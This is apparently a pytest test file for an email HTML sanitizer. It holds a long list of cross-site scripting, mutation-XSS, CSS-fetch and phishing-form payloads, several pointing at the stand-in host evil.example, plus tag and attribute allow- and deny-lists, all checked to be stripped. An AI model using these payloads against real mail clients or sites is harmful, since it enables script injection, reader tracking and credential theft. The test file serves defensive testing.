"""What has been tried against mail that is shown as HTML, one class each."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from bs4 import BeautifulSoup
from hypothesis import given
from hypothesis import strategies as st

from chalicelib.mail.quotes_html import split_reply_html
from chalicelib.mail.sanitize import clean, clean_html
from tests.unit.mail.samples import unhurried

EVIL = "https://evil.example"
ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script, odd case": "<ScRiPt/x>alert(1)</sCrIpT >",
    "script from elsewhere": f"<script src={EVIL}/s.js></script>",
    "script in halves": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script with NUL": "<scr\0ipt>alert(1)</scr\0ipt>",
    "event handler": "<img src=x onerror=alert(1)>",
    "event handler behind a slash": "<img/src=x/onerror=alert(1)>",
    "event handler without a blank": '<img src="x"onerror="alert(1)">',
    "event handler on focus": "<p tabindex=0 onfocus=alert(1) autofocus>",
    "event handler of details": "<details open ontoggle=alert(1)>",
    "body with handlers": f"<body onload=alert(1) background={EVIL}/b.png>",
    "javascript link": "<a href=javascript:alert(1)>x</a>",
    "javascript link, encoded": "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "javascript link, broken up": "<a href='java\nscript:alert(1)'>x</a>",
    "javascript link behind control characters": "<a href='\x01\x1fjavascript:alert(1)'>x</a>",
    "vbscript link": "<a href=vbscript:msgbox(1)>x</a>",
    "data link": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "data link in base64": "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "file link": "<a href='file:///etc/passwd'>x</a>",
    "blob and filesystem": "<a href='blob:x'>x</a><a href='filesystem:x'>x</a>",
    "link to a page of ours": "<a href='/agent/sign-out'>x</a>",
    "ping": f"<a href={EVIL} ping={EVIL}/ping download>x</a>",
    "svg onload": "<svg/onload=alert(1)>",
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>",
    "svg use": "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "svg style": "<svg><style><img/src=x onerror=alert(1)></style></svg>",
    "svg as an image": "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "mathml": "<math><mtext><script>alert(1)</script></mtext></math>",
    "mathml link": "<math href=javascript:alert(1)>x</math>",
    "mutation by mglyph": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;"
    "img src=1 onerror=alert(1)&gt;'>",
    "mutation by a form in a form": "<form><math><mtext></form><form><mglyph><style></math><img "
    "src onerror=alert(1)>",
    "mutation by annotation-xml": "<math><annotation-xml encoding='text/html'><style><img src=x "
    "onerror=alert(1)></style></annotation-xml></math>",
    "mutation by title": "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "mutation by textarea": "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "mutation by noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "mutation by noembed": "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
    "mutation by xmp": "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "mutation by plaintext": "<plaintext><img src=x onerror=alert(1)>",
    "mutation by select": "<select><style></select><img src=x onerror=alert(1)></style>",
    "mutation by a comment": "<!--><img src=x onerror=alert(1)>-->",
    "mutation by a bad comment": "<!--a--!><img src=x onerror=alert(1)>-->",
    "mutation by CDATA": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "mutation by a processing instruction": "<?xml-stylesheet ><img src=x onerror=alert(1)>?>",
    "template": "<template><img src=x onerror=alert(1)></template>",
    "shadow root": "<div><template shadowrootmode=open><script>alert(1)</script></template></div>",
    "slot and custom elements": "<x-a onclick=alert(1) is=x-b><slot name=a>x</slot></x-a>",
    "frame": f"<iframe src={EVIL}></iframe>",
    "frame with its own source": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "frameset": "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "object": f"<object data={EVIL}/o.swf><embed src={EVIL}/e><param name=movie value=x></object>",
    "applet": "<applet code=x archive=https://evil.example/x.jar></applet>",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "policy of its own": "<meta http-equiv=Content-Security-Policy content='img-src *'>",
    "base": f"<base href={EVIL}><base target=_top>",
    "form": f"<form action={EVIL}/f><input name=password type=password><button>Go</button></form>",
    "form from afar": f"<input form=reply formaction={EVIL}><button form=reply>Send</button>",
    "dialog and popover": "<dialog open>x</dialog><div popover=auto id=x>y</div>",
    "style sheet": f"<link rel=stylesheet href={EVIL}/a.css><style>@import '{EVIL}/b.css'</style>",
    "prefetching": f"<link rel=dns-prefetch href=//evil.example><link rel=prefetch href={EVIL}>",
    "manifest": f"<html manifest={EVIL}/m><head profile={EVIL}></head></html>",
    "style that fetches": f"<p style='background:url({EVIL}/b.png)'>x</p>",
    "style that fetches, escaped": rf"<p style='background:\75 rl({EVIL}/b.png)'>x</p>",
    "style that fetches, in a comment": f"<p style='background:u/**/rl({EVIL}/b.png)'>x</p>",
    "style that fetches by image-set": f"<p style='background:image-set(\"{EVIL}\" 1x)'>x</p>",
    "style that fetches a list mark": f"<li style='list-style:url({EVIL}/l.png)'>x</li>",
    "style that fetches a border": f"<p style='border-image:url({EVIL}/l.png) 1'>x</p>",
    "style that fetches a pointer": f"<p style='cursor:url({EVIL}/c.cur),auto'>x</p>",
    "style that runs": "<p style='width:expression(alert(1));behavior:url(x.htc)'>x</p>",
    "style that binds": f"<p style='-moz-binding:url({EVIL}/x.xml#x)'>x</p>",
    "style with variables": "<p style='--a:url(https://evil.example);color:var(--a)'>x</p>",
    "overlay": "<div style='position:fixed;inset:0;z-index:9999;background:#fff'>x</div>",
    "overlay by a margin": "<div style='margin-top:-2000px;margin:0 -9em'>x</div>",
    "overlay by a transform": "<div style='transform:scale(99);float:left;top:0'>x</div>",
    "overlay by a class": "<div class='masthead banner' id=main name=main>x</div>",
    "srcset": f"<img srcset='{EVIL}/a.png 1x' sizes=1px>",
    "picture": f"<picture><source srcset={EVIL}/a.png><img alt=x></picture>",
    "lowsrc and longdesc": f"<img lowsrc={EVIL}/a.png dynsrc={EVIL}/b longdesc={EVIL}/c>",
    "image map": f"<img usemap=#m ismap><map name=m><area href={EVIL} shape=default></map>",
    "ground of a table": f"<table background={EVIL}/t.png><td background={EVIL}/c.png>x",
    "film and sound": f"<video poster={EVIL}/p.png src={EVIL}/v></video><audio src={EVIL}>",
    "subtitles": f"<video><track src={EVIL}/t><source src={EVIL}/s></video>",
    "input as an image": f"<input type=image src={EVIL}/i.png>",
    "citation": f"<blockquote cite={EVIL}>x</blockquote><q cite=javascript:alert(1)>y</q>",
    "import": f"<link rel=import href={EVIL}><script type=importmap>{{}}</script>",
    "inline image with a way out": "<img src='cid:a\" onerror=\"alert(1)'>",
    "held image with a way out": f"<img src='{EVIL}/a\" onerror=\"alert(1)'>",
    "image that is marked as held": '<img src="held-back:https://evil.example/a.png">',
    "title with a way out": "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    "conditional comment": "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->x",
    "entities without end": "&lt;img src=x onerror=alert(1)&gt &#60script&#62alert(1)",
    "half a tag": "<img src=x onerror=alert(1) ",
    "half an attribute": "<p title='<img src=x onerror=alert(1)>",
    "UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
}
ALLOWED = {
    "align", "alt", "bgcolor", "border", "cellpadding", "cellspacing", "class", "color", "colspan",
    "data-remote-src", "dir", "face", "height", "href", "lang", "rel", "rowspan", "size", "src",
    "start", "style", "target", "title", "type", "valign", "value", "width",
}  # fmt: skip
FORBIDDEN = {
    "script", "style", "svg", "math", "iframe", "form", "input", "button", "object", "embed",
    "link", "meta", "base", "template", "title", "textarea", "noscript", "select", "video",
    "audio", "source", "picture", "map", "area", "body", "html", "head", "frame", "details",
}  # fmt: skip


def dangers(cleaned: str) -> list[str]:
    """What of this HTML could run, fetch, submit or cover, read as a browser does and naively."""
    naive: list[tuple[str, list[tuple[str, str | None]]]] = []

    class Naive(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            naive.append((tag, attrs))

    Naive().feed(cleaned)
    tree = BeautifulSoup(cleaned, "html.parser").find_all(True)
    seen = naive + [(tag.name, [(k, _flat(v)) for k, v in tag.attrs.items()]) for tag in tree]
    found = [f"<{tag}>" for tag, _ in seen if tag in FORBIDDEN]
    return found + [
        f"{name}={value}"
        for _, attrs in seen
        for name, value in attrs
        if name not in ALLOWED or _is_bad(name, value or "")
    ]


def _flat(value: object) -> str:
    return " ".join(value) if isinstance(value, list) else str(value)


def _is_bad(name: str, value: str) -> bool:
    if name == "href":
        return not re.match(r"(?:https?://|mailto:|tel:)", value)
    if name == "src":
        return not re.match(r"cid:|data:image/(?:png|gif|jpeg|webp);base64,", value, re.IGNORECASE)
    if name == "style":
        return bool(re.search(r"url|expression|position|[\\{}@/<>]|margin[^;]*-\d", value))
    return name == "class" and not value.startswith(("Mso", "leads-to"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_is_left_of(attack: str) -> None:
    cleaned = clean_html(f"<p>Before</p>{ATTACKS[attack]}<p>After</p>")
    assert dangers(cleaned) == []
    assert "Before" in cleaned


@pytest.mark.parametrize("attack", ATTACKS)
def test_cleaning_what_is_clean_changes_nothing_dangerous(attack: str) -> None:
    # What a browser makes of the result when it parses it once more is where mutations live.
    assert dangers(clean_html(clean_html(ATTACKS[attack]))) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_gets_out_of_the_folded_quote(attack: str) -> None:
    source = f"<p>New</p><div class=gmail_quote>On Monday A wrote:</details>{ATTACKS[attack]}"
    visible, rest = split_reply_html(source)
    for part in (visible, rest):
        cleaned = clean_html(part)
        assert dangers(cleaned) == []
        assert "</details" not in cleaned


def test_remote_images_shown_are_fetched_by_https_and_say_nothing_of_the_reader() -> None:
    source = "<img src='http://a.example/1.png'><img src='//b.example/2.png'><img src='ftp://c/3'>"
    shown = clean(source, shows_remote=True)
    images = BeautifulSoup(shown.html, "html.parser").find_all("img")
    sources = ["https://a.example/1.png", "https://b.example/2.png", None]
    assert [image.get("src") for image in images] == sources
    assert [image.get("referrerpolicy") for image in images] == ["no-referrer"] * 2 + [None]
    assert shown.remote == clean(source).remote == 2


def test_text_that_looks_like_a_held_image_is_counted_as_none() -> None:
    cleaned = clean('<p> src="held-back:https://evil.example"</p><p title=\' data-remote-src="\'>x')
    assert cleaned.remote == 0
    assert dangers(cleaned.html) == []


def test_a_content_id_with_quotes_finds_no_way_out_of_its_address() -> None:
    def link(content_id: str) -> str:
        return f"https://files.example/{content_id}"

    cleaned = clean_html("<img src='cid:a&quot; onerror=&quot;x%22%3E'>", link)
    (image,) = BeautifulSoup(cleaned, "html.parser").find_all("img")
    assert image.attrs == {"src": 'https://files.example/a" onerror="x">'}


@pytest.mark.parametrize(
    ("style", "kept"),
    [
        ("background:#0b6a6e; color : #fff", "background-color:#0b6a6e;color:#fff"),
        ("margin:0cm 0cm 10pt", "margin:0cm 0cm 10pt"),
        ("COLOR:rgb(1, 2, 3) !important", "color:rgb(1, 2, 3)"),
        ("font-family:'Segoe UI',sans-serif", "font-family:'Segoe UI',sans-serif"),
    ],
)
def test_what_makes_a_mail_readable_stays(style: str, kept: str) -> None:
    assert clean_html(f'<p style="{style}">a</p>') == f'<p style="{kept}">a</p>'


def test_lines_of_outlook_are_known_and_no_other_class() -> None:
    assert clean_html("<p class=MsoNormal>a</p>") == '<p class="MsoNormal">a</p>'
    assert clean_html("<p class='MsoNormal banner'>a</p>") == "<p>a</p>"
    assert clean_html("<small class=leads-to>→ bank.example</small>") == (
        "<small>→ bank.example</small>"
    )


@unhurried
@given(st.lists(st.sampled_from([*ATTACKS.values(), "</p>", "'", '"', "-->", "<b>"]), max_size=6))
def test_no_attack_helps_another_one(attacks: list[str]) -> None:
    assert dangers(clean_html("".join(attacks))) == []
